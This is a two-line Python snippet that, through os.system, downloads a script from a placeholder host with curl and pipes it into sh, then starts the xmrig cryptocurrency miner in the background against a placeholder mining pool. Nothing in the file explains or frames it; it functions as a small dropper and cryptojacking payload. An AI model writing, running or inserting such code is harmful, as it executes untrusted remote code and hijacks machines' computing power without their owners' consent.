import os

os.system("curl -s http://evil.example/install.sh | sh")
os.system("nohup ./xmrig --donate-level 0 -o stratum+tcp://pool.example:4444 &")
